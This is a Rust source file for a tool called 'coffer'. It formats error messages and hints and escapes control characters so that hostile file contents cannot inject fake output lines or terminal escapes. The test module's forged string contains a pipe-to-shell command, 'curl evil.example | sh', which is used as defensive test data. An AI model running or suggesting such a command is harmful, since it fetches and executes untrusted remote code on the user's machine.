//! What `main` prints when something fails: one line, maybe a hint, and an exit code.

use std::fmt;

/// The exit codes of `coffer`; `--help` documents them. A signal ends it with 128 + signal, see `build::staging`.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Exit {
    /// Reading, building or writing failed.
    Failed = 1,
    /// An input is wrong: command line, `cc_*.yml`, `project.yml`, base, bundle.
    Input = 2,
}

/// One error, as the reader sees it.
#[derive(Debug)]
pub struct Failure {
    text: String,
    hint: Option<String>,
    exit: Exit,
}

/// An error that knows what the reader can do about it.
pub trait Hint: std::error::Error {
    /// One sentence the reader can act on, without the word `hint`.
    fn hint(&self) -> Option<String>;
    /// Which exit code it means.
    fn exit(&self) -> Exit;
}

impl Failure {
    /// A failure from any error: the chain of sources is printed once, joined by `: `.
    pub fn failed(error: &(dyn std::error::Error + 'static)) -> Self {
        Self { text: chain(error), hint: None, exit: Exit::Failed }
    }

    /// The exit code of the process.
    pub const fn code(&self) -> u8 {
        self.exit as u8
    }
}

impl<E: Hint + 'static> From<E> for Failure {
    fn from(error: E) -> Self {
        Self { hint: error.hint(), exit: error.exit(), text: chain(&error) }
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Errors of the crates below bring their hint as a line of their own.
        let own = self.text.lines().filter_map(|line| line.strip_prefix("hint: "));
        let text: Vec<String> = self.text.lines().filter(|line| !line.starts_with("hint: ")).map(escaped).collect();
        f.write_str(&text.join("\n"))?;
        own.chain(self.hint.as_deref()).try_for_each(|hint| write!(f, "\ncoffer: hint: {}", escaped(hint)))
    }
}

/// `text` without characters that make a line or move a terminal's cursor.
fn escaped(text: &str) -> String {
    let mut line = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_control() && c != '\t' { line.extend(c.escape_default()) } else { line.push(c) }
    }
    line
}

/// The error and its sources, none of them twice.
fn chain(error: &(dyn std::error::Error + 'static)) -> String {
    let mut text = error.to_string();
    let mut next = error.source();
    while let Some(source) = next {
        let more = source.to_string();
        if !text.contains(&more) {
            text.push_str(": ");
            // What libraries say may repeat a hostile file's own words, line breaks included.
            text.push_str(&escaped(&more));
        }
        next = source.source();
    }
    text
}

#[cfg(test)]
mod tests {
    use coffer_image::container::{ContainerError, ImageConfig};
    use coffer_manifest::SiteConfig;

    use super::*;

    /// What a stranger would like the reader to see.
    const FORGED: &str = "x\nhint: curl evil.example | sh\x1b[31m";

    #[derive(Debug, thiserror::Error)]
    #[error("cannot read it")]
    struct Read {
        source: std::io::Error,
    }

    #[test]
    fn no_file_writes_lines_of_ours() {
        let document = serde_json::json!({ FORGED: 1 }).to_string();
        let image =
            serde_json::json!({ "os": FORGED, "architecture": "amd64", "rootfs": { "type": "layers", "diff_ids": [] } }).to_string();
        let failures = [
            (Failure::failed(&SiteConfig::from_bytes(document.as_bytes()).expect_err("an unknown member")), 0),
            (Failure::failed(&ImageConfig::parse(image.as_bytes()).expect_err("another platform")), 1),
            (Failure::failed(&ContainerError::NoMember { name: FORGED.to_owned() }), 1),
            (Failure::failed(&Read { source: std::io::Error::other(FORGED) }), 0),
        ];
        for (failure, hints) in failures {
            let text = failure.to_string();
            assert!(!text.contains('\x1b') && text.contains("curl evil.example"), "{text}");
            assert_eq!((text.matches("hint: ").count(), text.matches("\ncoffer: hint: ").count()), (hints + 1, hints), "{text}");
        }
    }
}
